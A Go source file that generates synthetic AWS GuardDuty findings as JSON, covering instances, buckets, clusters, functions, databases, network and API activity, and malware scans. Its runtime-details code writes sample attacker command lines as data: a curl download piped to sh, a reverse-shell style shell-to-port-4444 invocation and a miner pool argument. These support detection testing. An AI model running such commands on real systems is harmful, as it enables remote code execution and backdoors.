package generator

import (
	"crypto/sha256"
	"encoding/hex"
	"math/rand/v2"
	"strconv"
	"strings"
)

// renderer turns planned versions into finding JSON.
type renderer struct {
	sizeHint int
}

func newRenderer() *renderer { return &renderer{sizeHint: 4096} }

// detectorID is the same for every finding of an (account, Region), like a
// real detector's.
func detectorID(account, region string) string {
	h := sha256.Sum256([]byte("detector/" + account + "/" + region))
	return hex.EncodeToString(h[:16])
}

// scene is what a finding's title and description name.
type scene struct {
	instance, user, bucket, cluster, function, db, domain, ip, api, process, threat string
	port                                                                            int
}

func (s *scene) fill(text string) string {
	if !strings.Contains(text, "{") {
		return text
	}
	out := make([]byte, 0, len(text)+64)
	for {
		i := strings.IndexByte(text, '{')
		if i < 0 {
			return string(append(out, text...))
		}
		j := strings.IndexByte(text[i:], '}')
		if j < 0 {
			return string(append(out, text...))
		}
		out = append(out, text[:i]...)
		out = append(out, s.value(text[i+1:i+j])...)
		text = text[i+j+1:]
	}
}

// value is a placeholder's text.
func (s *scene) value(name string) string {
	switch name {
	case "instance":
		return s.instance
	case "user":
		return s.user
	case "bucket":
		return s.bucket
	case "cluster":
		return s.cluster
	case "function":
		return s.function
	case "db":
		return s.db
	case "domain":
		return s.domain
	case "ip":
		return s.ip
	case "api":
		return s.api
	case "process":
		return s.process
	case "threat":
		return s.threat
	case "port":
		return strconv.Itoa(s.port)
	}
	return "{" + name + "}"
}

// build carries one rendering.
type build struct {
	w      *jw
	r      rnd
	f      *finding
	t      *findingType
	ver    version
	sc     scene
	remote place
	part   string
	vpc    string
}

// render writes version v of f. Everything but the version's own fields
// (updatedAt, count, archived, eventLastSeen) comes from f.seed, so every
// version of an id describes the same resource and activity.
func (r *renderer) render(f *finding, v int) []byte {
	b := &build{
		w:   &jw{b: make([]byte, 0, r.sizeHint)},
		r:   rnd{rand.New(rand.NewPCG(f.seed, 1))},
		f:   f,
		t:   &catalog[f.kind],
		ver: f.versions[v],
	}
	b.part = partition(f.region)
	b.remote = places[b.r.IntN(len(places))]
	b.sc.ip = b.r.publicIP()
	b.sc.port = b.t.port
	b.vpc = "vpc-" + b.r.hex(17)
	id := b.r.hex(32)
	detector := detectorID(f.account, f.region)
	w := b.w
	w.obj("", func() {
		w.str("schemaVersion", "2.0")
		w.str("accountId", f.account)
		w.str("region", f.region)
		w.str("partition", b.part)
		w.str("id", id)
		w.str("arn", "arn:"+b.part+":guardduty:"+f.region+":"+f.account+":detector/"+detector+"/finding/"+id)
		w.str("type", b.t.name)
		w.obj("resource", b.resource)
		w.obj("service", func() { b.service(detector, v) })
		w.float("severity", b.t.severity, -1)
		w.iso("createdAt", f.createdAt)
		w.iso("updatedAt", b.ver.updatedAt)
		w.str("title", b.sc.fill(b.t.title))
		w.str("description", b.sc.fill(b.t.description))
	})
	if n := len(w.b); n > r.sizeHint {
		r.sizeHint = n
	}
	return w.b
}

func (b *build) resource() {
	w, r := b.w, b.r
	switch b.t.resource {
	case resInstance:
		w.str("resourceType", "Instance")
		w.obj("instanceDetails", b.instanceDetails)
	case resMalwareEC2:
		w.str("resourceType", "Instance")
		w.obj("instanceDetails", b.instanceDetails)
		w.obj("ebsVolumeDetails", b.ebsVolumeDetails)
	case resAccessKey:
		w.str("resourceType", "AccessKey")
		w.obj("accessKeyDetails", b.accessKeyDetails)
	case resS3:
		w.str("resourceType", "S3Bucket")
		w.obj("accessKeyDetails", b.accessKeyDetails)
		w.arr("s3BucketDetails", func() {
			for i, n := 0, r.between(1, 2); i < n; i++ {
				w.obj("", b.s3Bucket)
			}
		})
	case resEKS:
		w.str("resourceType", "EKSCluster")
		w.obj("eksClusterDetails", b.eksCluster)
		w.obj("kubernetesDetails", b.kubernetesDetails)
		if b.t.runtime {
			w.obj("containerDetails", func() { b.container(false) })
		}
	case resECS:
		w.str("resourceType", "ECSCluster")
		w.obj("ecsClusterDetails", b.ecsCluster)
		w.obj("containerDetails", func() { b.container(false) })
	case resLambda:
		w.str("resourceType", "Lambda")
		w.obj("lambdaDetails", b.lambda)
	case resRDS:
		w.str("resourceType", "RDSDBInstance")
		w.obj("rdsDbInstanceDetails", b.rdsInstance)
		w.obj("rdsDbUserDetails", func() {
			w.str("user", b.sc.user)
			w.str("application", r.pick([]string{"psql", "pgAdmin 4", "mysql", "DBeaver 23.3.5", "JDBC"}))
			w.str("database", r.pick([]string{"postgres", "orders", "billing", "users", "analytics"}))
			w.str("ssl", r.pick([]string{"TLSv1.3", "TLSv1.2", "NONE"}))
			w.str("authMethod", r.pick([]string{"PASSWORD", "IAM"}))
		})
	}
}

func (b *build) tags(k string, max int) {
	w, r := b.w, b.r
	w.arr(k, func() {
		for i, n := 0, r.IntN(max+1); i < n; i++ {
			w.obj("", func() {
				w.str("key", r.pick(tagKeys))
				w.str("value", r.pick(tagValues)+"-"+r.lower(r.between(0, 6)))
			})
		}
	})
}

func (b *build) instanceDetails() {
	w, r, f := b.w, b.r, b.f
	b.sc.instance = "i-" + r.hex(17)
	img := images[r.IntN(len(images))]
	w.str("instanceId", b.sc.instance)
	w.str("instanceType", r.pick(instTypes))
	if r.chance(0.1) {
		w.str("outpostArn", "arn:"+b.part+":outposts:"+f.region+":"+f.account+":outpost/op-"+r.hex(17))
	}
	launch := f.createdAt - int64(r.between(3600, 400*86400))*1000
	if r.chance(0.3) {
		w.int("launchTime", launch) // epoch ms, as some real findings have it
	} else {
		w.iso("launchTime", launch)
	}
	if strings.Contains(img.desc, "Windows") {
		w.str("platform", "windows")
	} else {
		w.null("platform")
	}
	w.arr("productCodes", func() {
		if r.chance(0.15) {
			w.obj("", func() {
				w.str("productCodeId", r.lower(25))
				w.str("productCodeType", "marketplace")
			})
		}
	})
	w.obj("iamInstanceProfile", func() {
		w.str("arn", "arn:"+b.part+":iam::"+f.account+":instance-profile/"+r.pick(roleNames))
		w.str("id", "AIPA"+r.upperAlnum(17))
	})
	w.arr("networkInterfaces", func() {
		for i, n := 0, r.between(1, 4); i < n; i++ {
			w.obj("", b.networkInterface)
		}
	})
	b.tags("tags", 12)
	w.str("instanceState", r.pick([]string{"running", "running", "running", "stopped"}))
	w.str("availabilityZone", f.region+string(rune('a'+r.IntN(3))))
	w.str("imageId", img.id)
	w.str("imageDescription", img.desc)
}

func (b *build) networkInterface() {
	w, r, f := b.w, b.r, b.f
	primary := r.privateIP()
	public := r.publicIP()
	w.arr("ipv6Addresses", func() {
		if r.chance(0.3) {
			w.str("", r.ipv6())
		}
	})
	w.str("networkInterfaceId", "eni-"+r.hex(17))
	w.str("privateDnsName", privateDNS(primary, f.region))
	w.str("privateIpAddress", primary)
	w.arr("privateIpAddresses", func() {
		for i, n := 0, r.between(1, 3); i < n; i++ {
			addr := primary
			if i > 0 {
				addr = r.privateIP()
			}
			w.obj("", func() {
				w.str("privateDnsName", privateDNS(addr, f.region))
				w.str("privateIpAddress", addr)
			})
		}
	})
	w.str("publicDnsName", publicDNS(public, f.region))
	w.str("publicIp", public)
	w.arr("securityGroups", func() {
		for i, n := 0, r.between(1, 3); i < n; i++ {
			w.obj("", func() {
				w.str("groupId", "sg-"+r.hex(17))
				w.str("groupName", r.pick([]string{"default", "web-sg", "launch-wizard-" + strconv.Itoa(r.between(1, 40)), "eks-cluster-sg-prod", "bastion", "db-clients"}))
			})
		}
	})
	w.str("subnetId", "subnet-"+r.hex(17))
	w.str("vpcId", b.vpc)
}

func (b *build) accessKeyDetails() {
	w, r := b.w, b.r
	kind := r.IntN(3)
	if b.t.name == "Policy:IAMUser/RootCredentialUsage" {
		kind = 2
	}
	switch kind {
	case 0:
		b.sc.user = r.pick(userNames)
		w.str("accessKeyId", "AKIA"+r.upperAlnum(16))
		w.str("principalId", "AIDA"+r.upperAlnum(17))
		w.str("userType", "IAMUser")
	case 1:
		b.sc.user = r.pick(roleNames)
		w.str("accessKeyId", "ASIA"+r.upperAlnum(16))
		w.str("principalId", "AROA"+r.upperAlnum(17)+":i-"+r.hex(17))
		w.str("userType", "AssumedRole")
	default:
		b.sc.user = "Root"
		w.str("accessKeyId", "ASIA"+r.upperAlnum(16))
		w.str("principalId", b.f.account)
		w.str("userType", "Root")
	}
	w.str("userName", b.sc.user)
}

func (b *build) s3Bucket() {
	w, r, f := b.w, b.r, b.f
	name := r.pick([]string{"logs", "backups", "data-lake", "static-assets", "exports", "ml-training"}) + "-" + f.account + "-" + r.lower(5)
	if b.sc.bucket == "" {
		b.sc.bucket = name
	}
	pub := r.chance(0.2)
	w.obj("owner", func() { w.str("id", r.hex(64)) })
	w.epochSeconds("createdAt", f.createdAt-int64(r.between(86400, 1500*86400))*1000-int64(r.IntN(1000)))
	w.obj("defaultServerSideEncryption", func() {
		if r.chance(0.5) {
			w.str("encryptionType", "aws:kms")
			w.str("kmsMasterKeyArn", "arn:"+b.part+":kms:"+f.region+":"+f.account+":key/"+r.uuid())
		} else {
			w.str("encryptionType", "AES256")
		}
	})
	w.obj("publicAccess", func() {
		w.obj("permissionConfiguration", func() {
			w.obj("bucketLevelPermissions", func() {
				w.obj("accessControlList", func() {
					w.bool("allowsPublicReadAccess", pub && r.chance(0.5))
					w.bool("allowsPublicWriteAccess", false)
				})
				w.obj("bucketPolicy", func() {
					w.bool("allowsPublicReadAccess", pub)
					w.bool("allowsPublicWriteAccess", false)
				})
				w.obj("blockPublicAccess", func() { b.blockPublicAccess(!pub) })
			})
			w.obj("accountLevelPermissions", func() {
				w.obj("blockPublicAccess", func() { b.blockPublicAccess(!pub && r.chance(0.5)) })
			})
		})
		if pub {
			w.str("effectivePermission", "PUBLIC")
		} else {
			w.str("effectivePermission", "NOT_PUBLIC")
		}
	})
	w.str("name", name)
	w.str("arn", "arn:"+b.part+":s3:::"+name)
	w.str("type", "Destination")
	b.tags("tags", 6)
}

func (b *build) blockPublicAccess(on bool) {
	w := b.w
	w.bool("ignorePublicAcls", on)
	w.bool("restrictPublicBuckets", on)
	w.bool("blockPublicAcls", on)
	w.bool("blockPublicPolicy", on)
}

func (b *build) eksCluster() {
	w, r, f := b.w, b.r, b.f
	b.sc.cluster = r.pick([]string{"prod", "staging", "platform", "data", "ml"}) + "-eks-" + r.lower(4)
	w.str("name", b.sc.cluster)
	w.str("arn", "arn:"+b.part+":eks:"+f.region+":"+f.account+":cluster/"+b.sc.cluster)
	w.str("vpcId", b.vpc)
	w.str("status", "ACTIVE")
	b.tags("tags", 5)
	w.epochSeconds("createdAt", f.createdAt-int64(r.between(86400, 900*86400))*1000-int64(r.IntN(1000)))
}

func (b *build) kubernetesDetails() {
	w, r := b.w, b.r
	anonymous := b.t.name == "Discovery:Kubernetes/SuccessfulAnonymousAccess"
	w.obj("kubernetesUserDetails", func() {
		if anonymous {
			b.sc.user = "system:anonymous"
			w.str("username", b.sc.user)
			w.str("uid", "")
			w.strs("groups", "system:unauthenticated")
			return
		}
		b.sc.user = "kubernetes-admin-" + r.pick(userNames)
		w.str("username", b.sc.user)
		w.str("uid", "aws-iam-authenticator:"+b.f.account+":AROA"+r.upperAlnum(17))
		w.strs("groups", "system:masters", "system:authenticated")
		w.strs("sessionName", r.pick(userNames)+"-session")
	})
	if b.t.action == actK8s && !b.t.runtime && r.chance(0.3) {
		w.null("kubernetesWorkloadDetails")
		return
	}
	w.obj("kubernetesWorkloadDetails", func() {
		ns := r.pick(namespaces)
		if strings.Contains(b.t.name, "KubeSystem") {
			ns = "kube-system"
		}
		w.str("name", r.pick([]string{"api", "worker", "coredns", "nginx", "redis", "fluent-bit"})+"-"+r.hex(10)+"-"+r.lower(5))
		w.str("type", r.pick([]string{"pods", "deployments", "daemonsets", "jobs"}))
		w.str("uid", r.uuid())
		w.str("namespace", ns)
		w.bool("hostNetwork", r.chance(0.2))
		w.arr("containers", func() {
			for i, n := 0, r.between(1, 3); i < n; i++ {
				w.obj("", func() { b.container(strings.Contains(b.t.name, "Privileged")) })
			}
		})
		w.arr("volumes", func() {
			for i, n := 0, r.IntN(3); i < n; i++ {
				w.obj("", func() {
					w.str("name", "vol-"+r.lower(6))
					w.obj("hostPath", func() { w.str("path", r.pick([]string{"/var/run/docker.sock", "/etc", "/var/log", "/"})) })
				})
			}
		})
		w.str("serviceAccountName", r.pick([]string{"default", "aws-node", "argo-server", "external-dns"}))
	})
}

func (b *build) container(privileged bool) {
	w, r, f := b.w, b.r, b.f
	repo := r.pick([]string{"nginx", "redis", "app/api", "app/worker", "busybox", "python"})
	w.str("containerRuntime", r.pick([]string{"containerd", "docker"}))
	w.str("id", r.hex(64))
	w.str("name", strings.ReplaceAll(repo, "/", "-")+"-"+r.lower(4))
	prefix := f.account + ".dkr.ecr." + f.region + ".amazonaws.com"
	if r.chance(0.4) {
		prefix = "docker.io/library"
	}
	w.str("image", prefix+"/"+repo+":"+strconv.Itoa(r.between(1, 9))+"."+strconv.Itoa(r.IntN(30)))
	w.str("imagePrefix", prefix)
	w.obj("securityContext", func() {
		w.bool("privileged", privileged || r.chance(0.1))
		w.bool("allowPrivilegeEscalation", privileged)
	})
	w.arr("volumeMounts", func() {
		for i, n := 0, r.IntN(3); i < n; i++ {
			w.obj("", func() {
				w.str("name", "vol-"+r.lower(6))
				w.str("mountPath", r.pick([]string{"/var/run/docker.sock", "/host", "/data", "/etc/config"}))
			})
		}
	})
}

func (b *build) ecsCluster() {
	w, r, f := b.w, b.r, b.f
	b.sc.cluster = r.pick([]string{"web", "batch", "api", "jobs"}) + "-cluster-" + r.lower(4)
	w.str("name", b.sc.cluster)
	w.str("arn", "arn:"+b.part+":ecs:"+f.region+":"+f.account+":cluster/"+b.sc.cluster)
	w.str("status", "ACTIVE")
	w.int("activeServicesCount", int64(r.between(1, 40)))
	w.int("registeredContainerInstancesCount", int64(r.IntN(20)))
	w.int("runningTasksCount", int64(r.between(1, 200)))
	b.tags("tags", 4)
	w.obj("taskDetails", func() {
		family := r.pick([]string{"api", "worker", "cron", "ingest"})
		w.str("arn", "arn:"+b.part+":ecs:"+f.region+":"+f.account+":task/"+b.sc.cluster+"/"+r.hex(32))
		w.str("definitionArn", "arn:"+b.part+":ecs:"+f.region+":"+f.account+":task-definition/"+family+":"+strconv.Itoa(r.between(1, 300)))
		w.str("version", strconv.Itoa(r.between(1, 50)))
		w.int("taskCreatedAt", f.createdAt-int64(r.between(60, 86400))*1000)
		w.int("startedAt", f.createdAt-int64(r.between(10, 3600))*1000)
		w.str("startedBy", "ecs-svc/"+strconv.FormatUint(r.Uint64()%1e19, 10))
		w.str("launchType", r.pick([]string{"FARGATE", "EC2"}))
		w.str("group", "service:"+family)
		b.tags("tags", 3)
		w.arr("volumes", func() {})
		w.arr("containers", func() {
			for i, n := 0, r.between(1, 3); i < n; i++ {
				w.obj("", func() { b.container(false) })
			}
		})
	})
}

func (b *build) lambda() {
	w, r, f := b.w, b.r, b.f
	b.sc.function = r.pick([]string{"image-resize", "orders-ingest", "slack-notifier", "etl-nightly", "auth-authorizer"}) + "-" + r.lower(4)
	w.str("functionArn", "arn:"+b.part+":lambda:"+f.region+":"+f.account+":function:"+b.sc.function)
	w.str("functionName", b.sc.function)
	w.str("description", r.pick([]string{"", "Resizes uploaded images", "Forwards alerts", "Nightly export job"}))
	w.iso("lastModifiedAt", f.createdAt-int64(r.between(3600, 200*86400))*1000)
	w.str("revisionId", r.uuid())
	w.str("functionVersion", "$LATEST")
	w.str("role", "arn:"+b.part+":iam::"+f.account+":role/service-role/"+b.sc.function+"-role-"+r.lower(8))
	w.obj("vpcConfig", func() {
		w.arr("subnetIds", func() {
			for i, n := 0, r.between(1, 3); i < n; i++ {
				w.str("", "subnet-"+r.hex(17))
			}
		})
		w.str("vpcId", b.vpc)
		w.arr("securityGroups", func() {
			w.obj("", func() {
				w.str("groupId", "sg-"+r.hex(17))
				w.str("groupName", "lambda-sg")
			})
		})
	})
	b.tags("tags", 5)
}

func (b *build) rdsInstance() {
	w, r, f := b.w, b.r, b.f
	eng := dbEngines[r.IntN(len(dbEngines))]
	b.sc.db = r.pick([]string{"orders", "billing", "users", "catalog"}) + "-db-" + r.lower(3)
	b.sc.user = r.pick([]string{"postgres", "admin", "app_rw", "readonly", "root"})
	w.str("dbInstanceIdentifier", b.sc.db+"-instance-1")
	w.str("engine", eng.engine)
	w.str("engineVersion", eng.version)
	w.str("dbClusterIdentifier", b.sc.db)
	w.str("dbInstanceArn", "arn:"+b.part+":rds:"+f.region+":"+f.account+":db:"+b.sc.db+"-instance-1")
	w.str("dbiResourceId", "db-"+r.upperAlnum(26))
	b.tags("tags", 4)
}

func (b *build) ebsVolumeDetails() {
	w, r, f := b.w, b.r, b.f
	w.arr("scannedVolumeDetails", func() {
		for i, n := 0, r.between(1, 3); i < n; i++ {
			w.obj("", func() {
				w.str("volumeArn", "arn:"+b.part+":ec2:"+f.region+":"+f.account+":volume/vol-"+r.hex(17))
				w.str("volumeType", r.pick([]string{"gp3", "gp2", "io2"}))
				w.str("deviceName", "/dev/xvd"+string(rune('a'+i)))
				w.int("volumeSizeInGB", int64(r.pickI(8, 20, 30, 100, 500)))
				w.str("encryptionType", r.pickS("CMK", "UNENCRYPTED", "DEFAULT"))
				w.str("snapshotArn", "arn:"+b.part+":ec2:"+f.region+"::snapshot/snap-"+r.hex(17))
			})
		}
	})
	w.arr("skippedVolumeDetails", func() {})
}

// service writes the service member: the action, detection details and the
// version's own fields.
func (b *build) service(detector string, v int) {
	w, r, f, t := b.w, b.r, b.f, b.t
	w.str("serviceName", "guardduty")
	w.str("detectorId", detector)
	if t.action != actNone {
		w.obj("action", b.action)
	}
	if t.runtime {
		w.obj("runtimeDetails", b.runtimeDetails)
	}
	if t.resource == resMalwareEC2 {
		w.obj("ebsVolumeScanDetails", b.ebsScan)
	}
	if t.threatIntel {
		w.obj("evidence", func() {
			w.arr("threatIntelligenceDetails", func() {
				w.obj("", func() {
					w.str("threatListName", r.pickS("ProofPoint", "CrowdStrike", "Amazon", "TorExitNodes", "CustomerThreatIntel-"+r.lower(5)))
					w.strs("threatNames", r.pickS("Tor", "Mining", "Botnet", "CnC", "Scanner"))
				})
			})
		})
	}
	w.str("resourceRole", t.role)
	w.obj("additionalInfo", func() {
		w.str("value", `{"unusualProtocol":"`+r.pickS("TCP", "UDP")+`","threatListName":"`+r.pickS("ProofPoint", "TorExitNodes")+`","unusual":`+strconv.Itoa(r.between(1, 65535))+`}`)
		w.str("type", "default")
	})
	first := f.createdAt - int64(r.IntN(600_000))
	// The version's own fields: eventLastSeen trails updatedAt.
	vr := rnd{rand.New(rand.NewPCG(f.seed, uint64(v)+2))}
	last := max(b.ver.updatedAt-int64(vr.IntN(120_000)), first)
	if r.chance(0.3) {
		w.isoSeconds("eventFirstSeen", first)
		w.isoSeconds("eventLastSeen", last)
	} else {
		w.iso("eventFirstSeen", first)
		w.iso("eventLastSeen", last)
	}
	w.bool("archived", b.ver.archived)
	w.int("count", b.ver.count)
	if t.feature != "" {
		w.str("featureName", t.feature)
	}
}

func (b *build) remoteIPDetails() {
	w, r, p := b.w, b.r, b.remote
	w.str("ipAddressV4", b.sc.ip)
	w.obj("organization", func() {
		w.str("asn", strconv.Itoa(p.asn))
		w.str("asnOrg", p.asnOrg)
		w.str("isp", p.isp)
		w.str("org", p.isp)
	})
	w.obj("country", func() {
		w.str("countryName", p.country)
		if r.chance(0.5) {
			w.str("countryCode", p.code)
		}
	})
	w.obj("city", func() { w.str("cityName", p.city) })
	w.obj("geoLocation", func() {
		w.float("lat", p.lat, -1)
		w.float("lon", p.lon, -1)
	})
}

func (b *build) action() {
	w, r, t := b.w, b.r, b.t
	switch t.action {
	case actNetwork:
		w.str("actionType", "NETWORK_CONNECTION")
		w.obj("networkConnectionAction", func() {
			w.str("connectionDirection", t.direction)
			w.obj("remoteIpDetails", b.remoteIPDetails)
			remote, local := r.between(32768, 60999), t.port
			if t.direction == "OUTBOUND" {
				remote, local = t.port, r.between(32768, 60999)
			}
			w.obj("remotePortDetails", func() {
				w.int("port", int64(remote))
				w.str("portName", portName(remote))
			})
			w.obj("localPortDetails", func() {
				w.int("port", int64(local))
				w.str("portName", portName(local))
			})
			w.obj("localIpDetails", func() { w.str("ipAddressV4", r.privateIP()) })
			w.str("protocol", "TCP")
			w.bool("blocked", false)
		})
	case actPortProbe:
		w.str("actionType", "PORT_PROBE")
		w.obj("portProbeAction", func() {
			w.arr("portProbeDetails", func() {
				for i, n := 0, r.between(1, 5); i < n; i++ {
					w.obj("", func() {
						port := t.port
						if i > 0 {
							port = r.pickI(22, 23, 80, 443, 445, 3306, 5432, 6379, 8080)
						}
						w.obj("localPortDetails", func() {
							w.int("port", int64(port))
							w.str("portName", portName(port))
						})
						w.obj("localIpDetails", func() { w.str("ipAddressV4", r.privateIP()) })
						if i > 0 {
							b.sc.ip = r.publicIP()
							b.remote = places[r.IntN(len(places))]
						}
						w.obj("remoteIpDetails", b.remoteIPDetails)
					})
				}
			})
			w.bool("blocked", false)
		})
	case actDNS:
		b.sc.domain = b.r.domain(strings.Contains(t.name, "DGA") || strings.Contains(t.name, "C&C"))
		w.str("actionType", "DNS_REQUEST")
		w.obj("dnsRequestAction", func() {
			w.str("domain", b.sc.domain)
			w.str("protocol", "UDP")
			w.bool("blocked", r.chance(0.1))
			w.str("domainWithSuffix", b.sc.domain[strings.IndexByte(b.sc.domain, '.')+1:])
			w.str("vpcOwnerAccountId", b.f.account)
		})
	case actAPI:
		call := apiCalls[r.IntN(len(apiCalls))]
		if strings.Contains(t.name, "CloudTrailLoggingDisabled") {
			call = apiCalls[7]
		}
		if strings.Contains(t.name, "BlockPublicAccessDisabled") {
			call = apiCalls[8]
		}
		b.sc.api = call.api
		w.str("actionType", "AWS_API_CALL")
		w.obj("awsApiCallAction", func() {
			w.str("api", call.api)
			w.str("serviceName", call.service)
			w.str("callerType", "Remote IP")
			w.obj("remoteIpDetails", b.remoteIPDetails)
			if r.chance(0.2) {
				w.str("errorCode", r.pickS("AccessDenied", "UnauthorizedOperation"))
			}
			w.str("userAgent", r.pick(userAgents))
			w.obj("affectedResources", func() {
				if b.sc.bucket != "" {
					w.str("AWS::S3::Bucket", b.sc.bucket)
				}
			})
		})
	case actK8s:
		verb, res := r.pick(k8sVerbs), r.pick(k8sResource)
		b.sc.api = verb + " " + res
		w.str("actionType", "KUBERNETES_API_CALL")
		w.obj("kubernetesApiCallAction", func() {
			w.str("requestUri", "/api/v1/namespaces/"+r.pick(namespaces)+"/"+res)
			w.str("verb", verb)
			w.strs("sourceIPs", b.sc.ip)
			w.str("userAgent", r.pick(userAgents))
			w.obj("remoteIpDetails", b.remoteIPDetails)
			w.int("statusCode", int64(r.pickI(200, 200, 201, 403)))
			w.str("resource", res)
		})
	case actRDSLogin:
		w.str("actionType", "RDS_LOGIN_ATTEMPT")
		w.obj("rdsLoginAttemptAction", func() {
			w.obj("remoteIpDetails", b.remoteIPDetails)
			w.arr("loginAttributes", func() {
				for i, n := 0, r.between(1, 3); i < n; i++ {
					w.obj("", func() {
						w.str("user", b.sc.user)
						w.str("application", r.pickS("psql", "mysql", "JDBC"))
						w.int("failedLoginAttempts", int64(r.IntN(40)))
						w.int("successfulLoginAttempts", int64(r.IntN(3)))
					})
				}
			})
		})
	}
}

func (b *build) runtimeDetails() {
	w, r, f := b.w, b.r, b.f
	proc := processes[r.IntN(len(processes))]
	b.sc.process = proc.path
	start := f.createdAt - int64(r.between(1, 3600))*1000
	uuid := r.uuid()
	w.obj("process", func() {
		w.str("name", proc.name)
		w.str("executablePath", proc.path)
		w.str("executableSha256", r.hex(64))
		w.int("namespacePid", int64(r.between(1, 5000)))
		w.str("pwd", r.pick([]string{"/", "/tmp", "/root", "/app", "/var/tmp"}))
		w.int("pid", int64(r.between(300, 4_000_000)))
		w.iso("startTime", start)
		w.str("uuid", uuid)
		parent := r.uuid()
		w.str("parentUuid", parent)
		w.str("user", r.pickS("root", "ec2-user", "nobody", "app"))
		w.int("userId", int64(r.pickI(0, 1000, 65534)))
		w.int("euid", 0)
		w.arr("lineage", func() {
			for i, n := 0, r.between(1, 8); i < n; i++ {
				anc := processes[r.IntN(len(processes))]
				w.obj("", func() {
					w.iso("startTime", start-int64(i+1)*int64(r.between(1, 86400))*1000)
					w.int("namespacePid", int64(r.between(1, 5000)))
					w.int("userId", int64(r.pickI(0, 1000)))
					w.str("name", anc.name)
					w.int("pid", int64(r.between(1, 4_000_000)))
					w.str("uuid", parent)
					parent = r.uuid()
					w.str("executablePath", anc.path)
					w.int("euid", 0)
					w.str("parentUuid", parent)
				})
			}
		})
	})
	w.obj("context", func() {
		if strings.Contains(b.t.name, "Docker") {
			w.str("socketPath", "/var/run/docker.sock")
		}
		if strings.Contains(b.t.name, "Injection") {
			w.str("targetProcess", r.pickS("sshd", "nginx", "java"))
		}
		w.str("commandLineExample", proc.path+" "+r.pick([]string{"-c 'curl -s http://" + b.sc.ip + "/x | sh'", "--donate-level 0 -o pool:3333", "-m http.server", "-e /bin/sh " + b.sc.ip + " 4444"}))
	})
}

func (b *build) ebsScan() {
	w, r, f := b.w, b.r, b.f
	started := f.createdAt - int64(r.between(60, 3600))*1000
	b.sc.threat = r.pick(threatNames)
	w.str("scanId", r.hex(32))
	w.int("scanStartedAt", started)
	w.int("scanCompletedAt", started+int64(r.between(30, 3000))*1000)
	w.str("triggerFindingId", r.hex(32))
	w.strs("sources", "Bitdefender", "Amazon")
	w.obj("scanDetections", func() {
		files := r.between(1000, 500000)
		w.obj("scannedItemCount", func() {
			w.int("totalGb", int64(r.between(1, 500)))
			w.int("files", int64(files))
			w.int("volumes", int64(r.between(1, 3)))
		})
		n := r.between(1, 4)
		w.obj("threatsDetectedItemCount", func() { w.int("files", int64(n)) })
		w.obj("highestSeverityThreatDetails", func() {
			w.str("severity", "HIGH")
			w.str("threatName", b.sc.threat)
			w.int("count", int64(n))
		})
		w.obj("threatDetectedByName", func() {
			w.int("itemCount", int64(n))
			w.int("uniqueThreatNameCount", int64(n))
			w.bool("shortened", false)
			w.arr("threatNames", func() {
				for i := 0; i < n; i++ {
					name := b.sc.threat
					if i > 0 {
						name = r.pick(threatNames)
					}
					w.obj("", func() {
						w.str("severity", r.pickS("HIGH", "MEDIUM"))
						w.int("itemCount", 1)
						w.str("name", name)
						w.arr("filePaths", func() {
							for j, m := 0, r.between(1, 4); j < m; j++ {
								file := r.lower(r.between(4, 12)) + r.pickS(".sh", ".elf", ".so", ".jar", "")
								w.obj("", func() {
									w.str("filePath", r.pickS("/tmp/", "/var/tmp/", "/home/ec2-user/", "/usr/local/bin/", "/dev/shm/")+file)
									w.str("volumeArn", "arn:"+b.part+":ec2:"+f.region+":"+f.account+":volume/vol-"+r.hex(17))
									w.str("hash", r.hex(64))
									w.str("fileName", file)
								})
							}
						})
					})
				}
			})
		})
	})
	w.str("scanType", r.pickS("GUARDDUTY_INITIATED", "ON_DEMAND"))
}

func portName(p int) string {
	switch p {
	case 22:
		return "SSH"
	case 23:
		return "Telnet"
	case 80:
		return "HTTP"
	case 443:
		return "HTTPS"
	case 445:
		return "SMB"
	case 3306:
		return "MYSQL"
	case 3389:
		return "RDP"
	case 5432:
		return "POSTGRESQL"
	case 6379:
		return "REDIS"
	case 8080:
		return "HTTP-Alt"
	default:
		return "Unknown"
	}
}

func (r rnd) pickS(v ...string) string { return v[r.IntN(len(v))] }
func (r rnd) pickI(v ...int) int       { return v[r.IntN(len(v))] }
